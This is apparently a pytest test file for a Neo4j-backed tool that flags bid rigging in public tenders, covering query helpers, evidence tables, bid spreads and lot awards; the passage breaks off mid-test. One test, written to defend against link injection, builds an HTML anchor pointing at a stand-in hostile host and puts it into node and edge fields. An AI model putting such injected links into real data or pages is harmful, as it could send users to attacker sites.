"""graph/app_queries.py and the graph view adapter: pure parts, and one query against the real Neo4j."""

from __future__ import annotations

import io
import json
import re

import pandas as pd
import pytest

from graph import app_queries
from graph.app_queries import GraphElements
from graph.cypher import named
from graph.db import GraphError
from graph.model import NODES
from views.graph_view import cap_graph, to_elements


def test_label_counts_query_counts_the_models_data_labels():
    counted = set(re.findall(r"MATCH \(n:(\w+)\)", named("app_label_counts").text))
    assert counted <= {n.label for n in NODES}  # no typo, no label the model does not declare
    core = {"Department", "Official", "Firm", "Person", "Tender", "Bid", "Inspection", "Approval", "Phone",
            "Email", "Address", "IP", "Document"}  # the data model's core (graph/model.py)
    assert core <= counted
    assert counted == set(app_queries.DATA_LABELS)  # every label loaders write, no job's or finding's


def test_query_parameters_are_the_dollar_names_outside_strings_names_and_comments():
    text = ("MATCH (n {id: $id})-[:R]->(m) WHERE m.x = '$no' AND m.y = \"a \\\" $no\" // $no\n"
            "/* $no */ RETURN `$no` AS c, $limit, $id")
    assert app_queries.query_parameters(text) == ["id", "limit"]
    # names as Cypher spells them: any script, digits alone, backquoted (Neo4j 5 takes all three)
    assert app_queries.query_parameters("RETURN $名字, $0, $`odd name`, `$no`, $abç") == ["名字", "0", "odd name", "abç"]


def test_console_table_keeps_number_columns_numeric_and_shows_the_rest_as_text():
    table = pd.DataFrame({"budget": [1074000.0, 99.5, None], "bids": [3, 12, 7], "name": ["A", None, "C"],
                          "ids": [["F1", "F2"], [], ["F3"]], "mixed": [1, "x", None], "flag": [True, False, True]})
    shown = app_queries.display_table(table)
    assert shown["budget"].dtype.kind == "f" and shown["bids"].dtype.kind in "iu"
    assert list(shown.sort_values("bids")["bids"]) == [3, 7, 12]  # numbers, not "12" < "3"
    assert list(shown["name"]) == ["A", "", "C"] and list(shown["ids"]) == ["F1, F2", "", "F3"]  # not Python's ['F1', 'F2']
    assert list(shown["mixed"]) == ["1", "x", ""] and list(shown["flag"]) == [True, False, True]
    nested = app_queries.display_table(pd.DataFrame({"w": [[{"id": "F1", "amount": 1.5}], {"k": "é"}]}))
    assert list(nested["w"]) == ['[{"id": "F1", "amount": 1.5}]', '{"k": "é"}']
    assert app_queries.display_table(pd.DataFrame()).empty


def test_fulltext_query_prefixes_latin_words_and_quotes_cjk_words():
    assert app_queries.fulltext_query("alpha build") == "alpha* AND build*"
    assert app_queries.fulltext_query("兰州 建筑") == '"兰州" AND "建筑"'
    # a name is cut into its words as the index cuts it: punctuation (and with it any Lucene operator a
    # user types) goes, a point or apostrophe inside a word stays
    assert app_queries.fulltext_query("a+b (x)") == "a* AND b* AND x*"
    assert app_queries.fulltext_query("Smith & Sons, Inc.") == "Smith* AND Sons* AND Inc*"
    assert app_queries.fulltext_query("O'Brien e.g. 3.5") == "O'Brien* AND e.g* AND 3.5*"
    assert app_queries.fulltext_query("AND OR NOT") == "AND* AND OR* AND NOT*"
    # combining marks are inside a word, as the analyzer keeps them (a Devanagari name, a decomposed ü)
    assert app_queries.fulltext_query("राजेश कंस्ट्रक्शन") == "राजेश* AND कंस्ट्रक्शन*"
    assert app_queries.fulltext_query("Mu\u0308ller,") == "Mu\u0308ller*"
    assert app_queries.fulltext_query("   ") == '""'
    # a pasted paragraph: the first words only (the server refused the whole as too large)
    assert app_queries.fulltext_query("word " * 500).count("word*") == app_queries.MAX_SEARCH_TERMS
    # a very long word: its beginning (the server refused a prefix query of 5,000 letters)
    assert app_queries.fulltext_query("x" * 5000) == "x" * app_queries.MAX_TERM_CHARS + "*"
    assert app_queries.fulltext_query("兰" * 5000) == '"' + "兰" * app_queries.MAX_TERM_CHARS + '"'


def test_evidence_facts_pair_values_with_thresholds_baselines_and_contributions():
    evidence = json.dumps({
        "shared_tenders": 6,
        "components": {"price": {"value": 0.2, "weight": 40.0, "contribution": 8.19, "facts": {"z": 3.3}}},
        "deviations": {"overdue_share": {"value": 0.81, "baseline": 0.08, "threshold": 3.5}},
        "thresholds": {"min_cobids": 3},
    })
    facts = app_queries.evidence_facts(evidence).set_index("fact")
    assert facts.loc["shared_tenders", "value"] == 6
    assert facts.loc["components.price", ["value", "contribution"]].tolist() == [0.2, 8.19]
    assert facts.loc["components.price.weight", "value"] == 40.0
    assert facts.loc["components.price.facts.z", "value"] == 3.3
    assert facts.loc["deviations.overdue_share", ["value", "baseline", "threshold"]].tolist() == [0.81, 0.08, 3.5]
    assert facts.loc["thresholds.min_cobids", "value"] == 3
    assert app_queries.evidence_facts(None).empty
    # the score's parts first, the detector's method and thresholds last, the rest between as stored
    stored = {"award_rule": {"lowest_price": True}, "band": 4, "components": {"ring": {"value": 0.8, "contribution": 1}},
              "screens": {"cv": 0.01}, "thresholds": {"min_bids": 3}, "category": "roads"}
    assert app_queries.evidence_facts(stored)["fact"].tolist() == [
        "components.ring", "band", "screens.cv", "category", "award_rule.lowest_price", "thresholds.min_bids"]
    # each common term says what it means in words, by its last part; a term it does not know says nothing
    assert facts.loc["components.price.facts.z", "meaning"].startswith("how many standard deviations")
    assert facts.loc["components.price", "meaning"] is None and facts.loc["shared_tenders", "meaning"]
    assert app_queries.fact_meaning("components.frequency_approvals.qvalue").startswith("the chance adjusted")
    assert app_queries.fact_meaning("tenders[3].speed_pvalue") == app_queries.FACT_MEANINGS["pvalue"]
    assert app_queries.fact_meaning("thresholds.min_cobids") is None
    # tender risk's award rule and a ring's excess and cohesion facts are explained (an app review found 13
    # award-rule rows and "log likelihood ratio 37.67" without a word), "drawn" in its list only
    assert app_queries.fact_meaning("award_rule.drawn").startswith("how many of those tenders the lowest bid")
    assert app_queries.fact_meaning("drawn") is None
    assert app_queries.fact_meaning("components.excess.facts.log_likelihood_ratio").startswith("how much better")
    assert "candidate groups" in app_queries.fact_meaning("components.cohesion.facts.tie_strength_percentile")
    assert app_queries.fact_meaning("components.price.weight") == "the most points this component can add"
    assert app_queries.fact_meaning("identifiers[0].weight").startswith("how much a shared identifier counts")
    # a term that means something else in one list: a spacing example's rank is no winning bid's rank
    assert app_queries.fact_meaning("components.price.facts.spacing_examples[0].rank").startswith(
        "how tightly the members' bids bunched")
    assert app_queries.fact_meaning("components.price.facts.rank") == app_queries.FACT_MEANINGS["rank"]
    # a pair's leniency baseline is its own expectation, which the page's plain peer rates are not
    assert "expected from how other officials found the firm" in app_queries.fact_meaning("components.leniency_pass")


def test_console_examples_are_the_values_alone_and_an_empty_string_is_no_null():
    from graph.cypher import named

    # 'e.g. "ring-…": the Rings page gives each ring's id' pre-filled all of it, which matched nothing
    assert app_queries.example_values(named("analyst_ring_subgraph").description)["ring_id"].startswith('"ring-')
    assert app_queries.example_values(named("analyst_ring_subgraph").description)["ring_id"].endswith('"')
    assert app_queries.example_values(named("read_bids").description) == {"after": '""', "limit": "100"}
    assert app_queries.console_value('""') == ""  # the first page, where an empty box (null) read nothing
    assert app_queries.example_values(named("analyst_same_tender_bid_traces").description) == {"limit": "50"}


def test_an_assignment_period_is_said_in_words_with_its_open_ends():
    assert app_queries.assignment_period("2021-01-01", "2022-12-31") == "2021-01-01 to 2022-12-31"
    assert app_queries.assignment_period("2023-01-01", None) == "since 2023-01-01"
    assert app_queries.assignment_period(None, "2022-12-31") == "until 2022-12-31"
    assert app_queries.assignment_period(None, None) == "open"


def test_facts_table_shows_text_blanks_and_yes_no_flags():
    from views.common import facts_table

    evidence = {"cv": {"value": 0.019, "flagged": True}, "rd": {"value": 0.4, "flagged": False},
                "large_group": False, "n": 6, "pvalue": 3.14159e-9, "share": 0.123456}
    shown = facts_table(app_queries.evidence_facts(evidence)).set_index("path")
    assert shown.loc["cv", ["value", "flagged"]].tolist() == ["0.019", "yes"]
    # a tiny p-value keeps three significant digits instead of rounding to 0.0
    assert shown.loc["pvalue", "value"] == "3.14e-09" and shown.loc["share", "value"] == "0.1235"
    assert shown.loc["rd", "flagged"] == "no" and shown.loc["large_group", "value"] == "no"
    assert shown.loc["n", ["value", "flagged"]].tolist() == ["6", ""]  # not "None"


def test_facts_table_says_facts_in_words_and_leaves_out_empty_columns():
    """The table was raw: dotted paths as facts, and baseline, threshold, contribution and flagged columns
    where every cell was empty (an app review)."""
    from views.common import facts_table

    evidence = {"members": ["F1", "F2"], "wins_by_member": {"F1": 3, "F2": 2},
                "components": {"speed": {"value": 0.7, "contribution": 12.0, "pvalue": 0.001},
                               "price": {"value": 0.2, "contribution": 8.0,
                                         "facts": {"spacing_examples": [{"tender_id": "T1", "rank": 0.07}]}}},
                "thresholds": {"min_cobids": 3}}
    names = {"F1": "Alpha Build", "F2": "Beta Build"}
    shown = facts_table(app_queries.evidence_facts(evidence, names))
    # the fact in words first, its path in the stored JSON last; no baseline, threshold or flag: no such column
    assert list(shown.columns) == ["fact", "value", "contribution", "meaning", "path"]
    by_path = shown.set_index("path")
    assert by_path.loc["components.speed.pvalue", "fact"] == "fast approvals › p-value"
    assert by_path.loc["components.speed", ["fact", "contribution"]].tolist() == ["fast approvals", "12.0"]
    assert by_path.loc["components.price.facts.spacing_examples[0].rank", "fact"] == \
        "prices › spacing example 1 › rank"
    assert by_path.loc["wins_by_member.F1", ["fact", "value"]].tolist() == ["wins of F1 (Alpha Build)", "3"]
    assert by_path.loc["thresholds.min_cobids", "fact"] == "threshold › min co-bids"
    assert not shown["fact"].str.contains("_").any()  # no snake_case shown
    # a list of ids names its firms, and a list of other values reads as text, not JSON
    listed = facts_table(app_queries.evidence_facts({"members": ["F1", "F9"], "years": [2023, 2024]}, names))
    assert listed.set_index("path")["value"].to_dict() == {"members": "Alpha Build (F1), F9", "years": "2023, 2024"}
    # without the names, the firm's id alone; a column some fact fills stays, blank for the others
    assert app_queries.fact_label("wins_by_member.F1") == "wins of F1"
    assert app_queries.fact_label("shared.F2.phone", names) == "shared › F2 (Beta Build) › phone"
    assert app_queries.fact_label("identifiers[1].weight") == "identifier 2 › weight"
    assert app_queries.fact_label("components.price.facts.spacing_examples[…]") == "prices › spacing examples, more"
    flagged = facts_table(app_queries.evidence_facts({"cv": {"value": 0.01, "flagged": True}, "n": 6})).set_index("path")
    assert flagged.loc["n", "flagged"] == "" and flagged.loc["n", "fact"] == "count"
    # the case report's columns are all still there (views/case_report.py renders this same table)
    assert {"fact", "value", "baseline", "threshold", "contribution", "flagged", "meaning"} <= set(
        app_queries.evidence_facts(evidence).columns)


def test_facts_table_shows_money_with_separators_and_the_bids_currency_only():
    from views.common import facts_table

    evidence = {"stepped_bids": {"tender_id": "T1", "step": 41000.0},
                "components": {"leniency_penalty": {"value": 0.0, "baseline": 0.101, "mean_penalty": 3226.92,
                                                    "peer_mean_penalty": 8568.9}},
                "deviations": {"penalty_mean": {"value": 4472.7273, "baseline": 10835.7143, "threshold": 3.5}},
                "log_likelihood_ratio": 123456.5, "n_bids": 4}
    shown = facts_table(app_queries.evidence_facts(evidence), currency="CNY").set_index("path")
    assert shown.loc["stepped_bids.step", "value"] == "41,000 CNY"  # a step between bids: in their currency
    # penalties: grouped, no currency (none is recorded for them)
    assert shown.loc["components.leniency_penalty.mean_penalty", "value"] == "3,226.92"
    assert shown.loc["components.leniency_penalty.peer_mean_penalty", "value"] == "8,568.90"
    assert shown.loc["deviations.penalty_mean", ["value", "baseline"]].tolist() == ["4,472.73", "10,835.71"]
    assert shown.loc["components.leniency_penalty", "value"] == "0.0"  # a share, not money
    assert shown.loc["log_likelihood_ratio", "value"] == "123,456.5" and shown.loc["n_bids", "value"] == "4"
    # the gap between the two lowest bids is stored as a share of the lowest (detectors.screens), not in per cent
    gap = facts_table(app_queries.evidence_facts({"screens": {"diff_pct": 0.0056}})).iloc[0]
    assert gap["fact"] == "screens › gap between the two lowest bids" and "0.02: 2 % above" in gap["meaning"]
    # without a currency, none is made up
    assert facts_table(app_queries.evidence_facts(evidence)).set_index("path").loc["stepped_bids.step", "value"] == \
        "41,000"


def test_money_text_groups_thousands_and_names_only_a_recorded_currency():
    assert app_queries.money_text(101000.0, "CNY") == "101,000 CNY"
    assert app_queries.money_text(3226.92) == "3,226.92" and app_queries.money_text(12.5, "") == "12.50"
    assert app_queries.money_text(None, "CNY") == "" and app_queries.money_text(float("nan")) == ""


def test_key_screens_name_the_biggest_contributions_else_flagged_facts():
    by_component = {"components": {"price": {"contribution": 8.2}, "identifiers": {"contribution": 20.0},
                                   "suppression": {"contribution": 0.0}, "ring": {"contribution": 0.5}}}
    # in words, no "ring 0"
    assert app_queries.key_screens(json.dumps(by_component)) == "shared identifiers 20, prices 8"
    pair = {"components": {"outcomes": {"contribution": 35}, "frequency_inspections": {"contribution": 15},
                           "new_channel": {"contribution": 5}}}
    assert app_queries.key_screens(pair) == "committee wins 35, frequent inspections 15, new channel 5"
    flagged = {"cv": {"value": 0.019, "flagged": True}, "rd": {"value": 0.4, "flagged": False}, "n": 6}
    assert app_queries.key_screens(flagged) == "cv=0.019"
    assert app_queries.key_screens({"n": 6, "screens": flagged}) == "cv=0.019"  # one level down too
    assert app_queries.key_screens({"n": 6, "note": "x"}) == "n=6"


def test_bid_spreads_measure_bids_against_the_awarded_bid_or_the_lowest():
    bids = pd.DataFrame({
        "tender_id": ["T1", "T1", "T1", "T2", "T2"], "published_at": ["2024-01-10"] * 3 + ["2024-02-10"] * 2,
        "firm_id": ["F1", "F2", "F3", "F1", "F2"], "firm_name": ["A", "B", "C", "A", "B"],
        "amount": [100.0, 102.0, 90.0, 200.0, 210.0], "disqualified": [False, False, True, False, False],
        "winner_firm_ids": [["F1"]] * 3 + [[]] * 2, "lot": [None] * 5, "bid_awarded": [False] * 5,
        "is_member": [True] * 5,
    })
    out = app_queries.bid_spreads(bids).set_index(["tender_id", "firm_id"])
    # T1: F1 was awarded; F3's lower bid was disqualified, so it does not set the winning amount
    assert out.loc[("T1", "F2"), "pct_above_winner"] == pytest.approx(2.0)
    assert out.loc[("T1", "F1"), "is_winner"]
    # T2: no award recorded → the lowest valid bid is the winning one
    assert out.loc[("T2", "F1"), "is_winner"] and out.loc[("T2", "F2"), "pct_above_winner"] == pytest.approx(5.0)


def test_bid_spreads_never_take_a_withdrawn_or_invited_bid_for_the_winning_one():
    """No award on record: the lowest *standing* bid wins; a withdrawn bid (and an invitation, with
    no price) is shown with its status but neither wins nor counts as valid."""
    bids = pd.DataFrame({
        "tender_id": ["T1"] * 4, "published_at": ["2024-01-10"] * 4, "firm_id": ["F1", "F2", "F3", "F4"],
        "firm_name": ["A", "B", "C", "D"], "amount": [80.0, 100.0, 104.0, None],
        "disqualified": [False] * 4, "status": ["withdrawn", "valid", "pending", "invited"],
        "winner_firm_ids": [[]] * 4, "lot": [None] * 4, "bid_awarded": [False] * 4, "is_member": [True] * 4,
    })
    out = app_queries.bid_spreads(bids).set_index("firm_id")
    assert out["valid"].tolist() == [False, True, True, False]
    assert out["is_winner"].tolist() == [False, True, False, False]
    assert out.loc["F3", "pct_above_winner"] == pytest.approx(4.0)
    assert out.loc["F1", "pct_above_winner"] == pytest.approx(-20.0)  # measured, but not the winner


def test_tier_is_read_from_the_evidence_as_stored():
    assert app_queries.tier({"tier": "weak", "score": 3}) == "weak"
    assert app_queries.tier('{"tier": "strong"}') == "strong"   # JSON text, as stored in Neo4j
    assert app_queries.tier({"score": 3}) is None and app_queries.tier(None) is None


def test_wins_by_region_counts_each_members_wins_per_region():
    bids = pd.DataFrame({
        "tender_id": ["T1", "T1", "T2", "T2", "T3", "T4"], "region": ["north", "north", "south", "south", "north", None],
        "firm_name": ["A", "B", "A", "B", "C", "B"], "is_winner": [True, False, False, True, True, True],
        "is_member": [True, True, True, True, False, True],
    })
    table = app_queries.wins_by_region(bids)
    # C is an outsider; T4 has no region
    assert table.to_dict() == {"(no region)": {"A": 0, "B": 1}, "north": {"A": 1, "B": 0}, "south": {"A": 0, "B": 1}}
    # near miss: all wins in one region say nothing about allocation, with or without
    # tenders of unknown region beside them
    assert app_queries.wins_by_region(bids[bids["region"] == "north"]).empty
    assert app_queries.wins_by_region(bids[bids["region"] != "south"]).empty


def test_graph_view_caps_nodes_keeping_subjects_and_keeps_node_ids_intact():
    graph = GraphElements()
    graph.add_node("hub", "Firm", {"id": "F1", "name": "Hub"}).role = "subject"
    for i in range(200):
        graph.add_node(f"n{i}", "Bid", {"id": f"B{i}"})
        graph.add_edge("hub", "SUBMITTED", f"n{i}")
    small, dropped = cap_graph(graph, cap=150)
    assert len(small.nodes) == 150 and dropped == 51 and "hub" in small.nodes
    assert all(e.source in small.nodes and e.target in small.nodes for e in small.edges.values())
    elements = to_elements(small)
    hub = next(n["data"] for n in elements["nodes"] if n["data"]["id"] == "hub")
    assert hub["node_key"] == "F1" and hub["label"] == "subject Firm" and hub["name"] == "Hub"


def test_graph_view_sends_no_link_the_side_panel_would_make_live():
    """streamlit-cytoscape's info panel turns <a href="http…">…</a> in a value into a link."""
    from views.common import WORD_JOINER

    hostile = '<a href="https://ev.il/x">Docs</a>'
    graph = GraphElements()
    graph.add_node("f", "Firm", {"id": "F1", "name": hostile, "note": ["<a href='https://x'>y</a>"]})
    graph.add_node("t", "Tender", {"id": "T1", "title": "Road " + hostile * 10})
    graph.add_edge("f", "BID_IN", "t", {"memo": hostile})
    elements = to_elements(graph)
    anchor = re.compile(r"<a\b[^>]*\bhref\s*=", re.IGNORECASE)  # the panel's ANCHOR_RE, up to the href
    values = [v for item in elements["nodes"] + elements["edges"] for v in item["data"].values() if isinstance(v, str)]
    assert not [v for v in values if anchor.search(v)]
    firm = next(n["data"] for n in elements["nodes"] if n["data"]["id"] == "f")
    assert firm["name"].replace(WORD_JOINER, "") == hostile  # reads as typed
    assert firm["node_key"] == "F1"


@pytest.mark.neo4j
def test_label_counts_read_the_count_store_and_leave_out_empty_labels(clean_db):
    """`RETURN 'Bid' AS label, count(n)` grouped by the literal and scanned every Bid (35–48 ms at demo
    scale 10, on nearly every page); the counts come from the count store (3 ms), as the query says."""
    with clean_db.driver.session(database=clean_db.settings.database) as session:
        session.run("CREATE (:Firm {id: 'F1'}), (:Firm {id: 'F2'}), (:Tender {id: 'T1'})").consume()
        plan = session.run("EXPLAIN " + named("app_label_counts").text).consume().plan
    operators, stack = [], [plan]
    while stack:
        node = stack.pop()
        operators.append(node["operatorType"].split("@")[0])
        stack.extend(node.get("children", []))
    assert operators.count("NodeCountFromCountStore") == len(app_queries.DATA_LABELS)
    assert not [op for op in operators if "Scan" in op], operators
    counts = app_queries.label_counts(clean_db)
    assert dict(zip(counts["label"], counts["nodes"], strict=True)) == {"Firm": 2, "Tender": 1}


@pytest.mark.neo4j
def test_top_findings_keep_a_flooding_detector_to_its_best_few(clean_db):
    with clean_db.driver.session(database=clean_db.settings.database) as session:
        session.run("UNWIND range(1, 6) AS i CREATE (:Alert {id: 'T' + i, kind: 'tender', detector: 'flood', "
                    "score: 90.0 + i, active: true, explanation: 'x'})").consume()
        session.run("CREATE (:Ring {id: 'R1', detector: 'rings', score: 40.0, active: true, explanation: 'y'})").consume()
    top = app_queries.top_findings(clean_db, limit=10, per_detector=2)
    assert list(top["finding_id"]) == ["T6", "T5", "R1"]


def test_pair_committee_tenders_list_the_tenders_the_official_evaluated_and_the_firm_bid_in(market_db):
    """O3 evaluated T1–T6; F1 bid in all six and won T1 and T4; outsider F4 bid only in T1 and T2."""
    tenders = app_queries.pair_committee_tenders(market_db, "O3", "F1")
    assert list(tenders["tender_id"]) == ["T1", "T2", "T3", "T4", "T5", "T6"]
    assert list(tenders.loc[tenders["firm_won"], "tender_id"]) == ["T1", "T4"]
    first = tenders.iloc[0]
    assert (first["sat_on"], first["bids"], first["amount"], first["winners"]) == \
        ("2024-01-10", 4, 101000.0, "Alpha Build (F1)")
    assert tenders.iloc[1]["winners"] == "Beta Build (F2)" and tenders.iloc[2]["bids"] == 3
    outsider = app_queries.pair_committee_tenders(market_db, "O3", "F4")
    assert list(outsider["tender_id"]) == ["T1", "T2"] and not outsider["firm_won"].any()
    assert app_queries.pair_committee_tenders(market_db, "O1", "F5").empty
    # a winner without a name reads as its id alone
    with market_db.driver.session(database=market_db.settings.database) as session:
        session.run("MATCH (f:Firm {id: 'F2'}) REMOVE f.name").consume()
    assert app_queries.pair_committee_tenders(market_db, "O3", "F1").iloc[1]["winners"] == "F2"


def test_tenders_list_tender_findings_with_the_tenders_record(market_db):
    """TR-1 flags T2: four bids, won by F2 Beta Build, where RING-1's members bid; RF-1 (red flags) T3."""
    tenders = app_queries.tenders(market_db)
    assert list(tenders["alert_id"]) == ["TR-1", "RF-1"]
    assert list(tenders["detector"]) == ["tender_risk", "red_flags"]
    # a red flag finding reads as its flags' codes and titles ("R035, R036" told an investigator nothing)
    assert tenders.iloc[1]["key_screens"] == "R003 short submission period, R024 price close to winning bid"
    t2 = tenders.iloc[0]
    assert (t2["tender_id"], t2["title"], t2["category"], t2["bids"], t2["published_at"]) == \
        ("T2", "Road resurfacing lot 2", "roads", 4, "2024-02-10")
    assert list(t2["winners"]) == ["Beta Build"] and list(t2["rings"]) == ["RING-1"]
    assert t2["budget"] == pytest.approx(102000.0 * 1.1) and t2["award_criteria"] == "priceOnly"
    assert tenders.iloc[1]["award_criteria"] is None  # T3 declares none
    assert t2["key_screens"] == "price screens 55, ring bid in it 15"
    # a firm invited to T2 (an OCDS bid with status invited) placed no bid: the count stays
    with market_db.driver.session(database=market_db.settings.database) as session:
        session.run("MATCH (t:Tender {id: 'T2'}), (f:Firm) WITH t, f LIMIT 1 "
                    "CREATE (f)-[:SUBMITTED]->(:Bid {id: 'T2-invited', status: 'invited'})-[:FOR]->(t)").consume()
    assert app_queries.tenders(market_db).set_index("tender_id").loc["T2", "bids"] == 4
    # a tender finding the latest run no longer produced is listed only when asked for
    with market_db.driver.session(database=market_db.settings.database) as session:
        session.run("MATCH (a:Alert {id: 'TR-1'}) SET a.active = false").consume()
    assert list(app_queries.tenders(market_db)["alert_id"]) == ["RF-1"]
    assert list(app_queries.tenders(market_db, include_inactive=True)["alert_id"]) == ["TR-1", "RF-1"]


def test_tender_bids_mark_ring_members_the_winner_and_shared_traces(market_db):
    """In T2, F2 won at 102,000; F1 bid 2 % and F3 4 % above, outsider F4 15 %; F1's and F2's bids
    came from one IP; F3's document is on no other bid."""
    bids = app_queries.tender_bids(market_db, "T2").set_index("firm_id")
    assert list(bids.index) == ["F2", "F1", "F3", "F4"]  # lowest first
    assert bids.loc["F2", "is_winner"] and not bids.loc[["F1", "F3", "F4"], "is_winner"].any()
    assert bids.loc["F1", "pct_above_winner"] == pytest.approx(2.0)
    assert bids.loc["F4", "pct_above_winner"] == pytest.approx(15.0)
    assert [list(r) for r in bids["rings"]] == [["RING-1"], ["RING-1"], ["RING-1"], []]
    assert list(bids["is_member"]) == [True, True, True, False]
    assert list(bids["shared_trace"]) == [True, True, False, False]
    assert (bids.loc["F1", "ip"], bids.loc["F3", "document_hash"]) == ("10.0.0.7", "d0c3")
    assert app_queries.tender_bids(market_db, "T404").empty


def test_tender_bids_with_several_winners_and_a_ring_whose_tender_list_is_capped(market_db):
    """F1 is awarded a second lot of T2 (its bid 2 % above F2's, and first by id); RING-1's stored
    list of tenders leaves T2 out, as the store does beyond 500 tenders: its members still show."""
    with market_db.driver.session(database=market_db.settings.database) as session:
        session.run("MATCH (t:Tender {id: 'T2'}), (f:Firm {id: 'F1'}) CREATE (t)-[:AWARDED_TO {amount: 104040.0}]->(f)"
                    ).consume()
        session.run("MATCH (:Ring {id: 'RING-1'})-[c:CONCERNS]->(:Tender {id: 'T2'}) DELETE c").consume()
    bids = app_queries.tender_bids(market_db, "T2").set_index("firm_id")
    assert list(bids["is_winner"]) == [True, True, False, False]  # F2, F1, F3, F4
    assert bids.loc["F1", "pct_above_winner"] == pytest.approx(2.0)  # against the lowest winning bid, F2's
    assert list(bids["is_member"]) == [True, True, True, False]
    [t2] = app_queries.tenders(market_db).query("tender_id == 'T2'").to_dict("records")
    assert sorted(t2["winners"]) == ["Alpha Build", "Beta Build"] and list(t2["rings"]) == ["RING-1"]


LOTS = """
CREATE (t:Tender {id: 'TL'}), (l1:Lot {id: 'TL/1'}), (l2:Lot {id: 'TL/2'})
WITH t, l1, l2
UNWIND [['F1', 1000.0, 'TL/1'], ['F2', 1100.0, 'TL/1'], ['F3', 50.0, 'TL/2'], ['F4', 60.0, 'TL/2']] AS row
MATCH (f:Firm {id: row[0]}), (l:Lot {id: row[2]})
CREATE (f)-[:SUBMITTED]->(b:Bid {id: 'TL-' + row[0], amount: row[1]})-[:FOR]->(t), (b)-[:FOR_LOT]->(l)
WITH DISTINCT t
MATCH (f1:Firm {id: 'F1'}), (f3:Firm {id: 'F3'})
CREATE (t)-[:AWARDED_TO]->(f1), (t)-[:AWARDED_TO]->(f3)
"""


def test_tender_bids_are_measured_within_their_lot_against_the_bids_awards_name(market_db):
    """TL: lot 1 (F1 1,000 won, F2 1,100) and lot 2 (F3 50 won, F4 60)."""
    with market_db.driver.session(database=market_db.settings.database) as session:
        session.run(LOTS).consume()
    bids = app_queries.tender_bids(market_db, "TL").set_index("firm_id")
    assert list(bids.loc[["F1", "F2", "F3", "F4"], "is_winner"]) == [True, False, True, False]
    assert bids.loc["F2", "pct_above_winner"] == pytest.approx(10.0)  # not against lot 2's 50
    assert bids.loc["F4", "pct_above_winner"] == pytest.approx(20.0)
    # an active award that names F2's bid (OCDS relatedBids) decides lot 1; lot 2 keeps its awarded firm;
    # an unsuccessful award naming F4's bid decides nothing
    with market_db.driver.session(database=market_db.settings.database) as session:
        session.run("MATCH (b:Bid {id: 'TL-F2'}) CREATE (:Award {id: 'TL-A', status: 'active'})-[:AWARDS_BID]->(b)"
                    ).consume()
        session.run("MATCH (b:Bid {id: 'TL-F4'}) CREATE (:Award {id: 'TL-U', status: 'unsuccessful'})-[:AWARDS_BID]->(b)"
                    ).consume()
    bids = app_queries.tender_bids(market_db, "TL").set_index("firm_id")
    assert list(bids.loc[["F1", "F2", "F3", "F4"], "is_winner"]) == [False, True, True, False]
    assert bids.loc["F1", "pct_above_winner"] == pytest.approx(100 * (1000 / 1100 - 1))
    assert bids.loc["F4", "pct_above_winner"] == pytest.approx(20.0)


OCDS_LOTS = """
CREATE (t:Tender {id: 'TA'}), (l1:Lot {id: 'TA/1'}), (l2:Lot {id: 'TA/2'})
WITH t, l1, l2
UNWIND [['F1', 1000.0, 'TA/1'], ['F2', 1100.0, 'TA/1'], ['F1', 50.0, 'TA/2'], ['F2', 55.0, 'TA/2'],
        ['F3', 45.0, 'TA/2'], ['F3', 47.0, null]] AS row
MATCH (f:Firm {id: row[0]})
CREATE (f)-[:SUBMITTED]->(b:Bid {id: 'TA-' + row[0] + '-' + coalesce(row[2], 'none'), amount: row[1]})-[:FOR]->(t)
WITH t, b, row
OPTIONAL MATCH (l:Lot {id: row[2]})
FOREACH (x IN CASE WHEN l IS NULL THEN [] ELSE [l] END | CREATE (b)-[:FOR_LOT]->(x))
WITH DISTINCT t
MATCH (f1:Firm {id: 'F1'}), (f2:Firm {id: 'F2'}), (l1:Lot {id: 'TA/1'}), (l2:Lot {id: 'TA/2'})
CREATE (t)-[:HAS_AWARD]->(a1:Award {id: 'TA-A1', status: 'active'})-[:AWARD_SUPPLIER]->(f1), (a1)-[:FOR_LOT]->(l1),
       (t)-[:HAS_AWARD]->(a2:Award {id: 'TA-A2', status: 'active'})-[:AWARD_SUPPLIER]->(f2), (a2)-[:FOR_LOT]->(l2),
       (t)-[:AWARDED_TO]->(f1), (t)-[:AWARDED_TO]->(f2)
"""


def test_an_ocds_award_wins_only_its_own_lot(market_db):
    """TA: F1 won lot 1 (1,000 against F2's 1,100), F2 lot 2 (55; F1 50 and F3 45 lost); F3's bid at 47
    names no lot in a tender with two: it is measured against the tender's lowest winning bid."""
    with market_db.driver.session(database=market_db.settings.database) as session:
        session.run(OCDS_LOTS).consume()
    bids = app_queries.tender_bids(market_db, "TA").set_index("bid_id")
    assert bids.loc[["TA-F1-TA/1", "TA-F2-TA/1", "TA-F1-TA/2", "TA-F2-TA/2", "TA-F3-TA/2"], "is_winner"].tolist() == [
        True, False, False, True, False]
    assert bids.loc["TA-F3-TA/2", "pct_above_winner"] == pytest.approx(100 * (45 / 55 - 1))
    assert bids.loc["TA-F3-none", "pct_above_winner"] == pytest.approx(100 * (47 / 55 - 1))
    assert set(bids["status"]) == {"valid"}  # bids with no OCDS status read their disqualified flag
    # F3 takes its lot-2 bid back (OCDS status withdrawn): the page shows it so, and it is no valid bid
    with market_db.driver.session(database=market_db.settings.database) as session:
        session.run("MATCH (b:Bid {id: 'TA-F3-TA/2'}) SET b.status = 'withdrawn'").consume()
    bids = app_queries.tender_bids(market_db, "TA").set_index("bid_id")
    assert bids.loc["TA-F3-TA/2", "status"] == "withdrawn" and not bids.loc["TA-F3-TA/2", "valid"]
    assert bids.loc["TA-F2-TA/2", "is_winner"] and bids.loc["TA-F2-TA/2", "valid"]


def test_an_award_to_a_firm_without_a_bid_marks_no_bid_as_winning(market_db):
    with market_db.driver.session(database=market_db.settings.database) as session:
        session.run("CREATE (t:Tender {id: 'TY'}) WITH t MATCH (f1:Firm {id: 'F1'}), (f2:Firm {id: 'F2'}), "
                    "(f5:Firm {id: 'F5'}) CREATE (f1)-[:SUBMITTED]->(:Bid {id: 'TY-1', amount: 100.0})-[:FOR]->(t), "
                    "(f2)-[:SUBMITTED]->(:Bid {id: 'TY-2', amount: 110.0})-[:FOR]->(t), (t)-[:AWARDED_TO]->(f5)"
                    ).consume()
    bids = app_queries.tender_bids(market_db, "TY")
    assert not bids["is_winner"].any() and bids["pct_above_winner"].isna().all()


def test_a_consortium_bid_of_two_ring_members_is_not_two_members_bidding(market_db):
    """TZ: one joint bid of F1 and F2 (RING-1 members) and F4's: the ring did not meet there."""
    with market_db.driver.session(database=market_db.settings.database) as session:
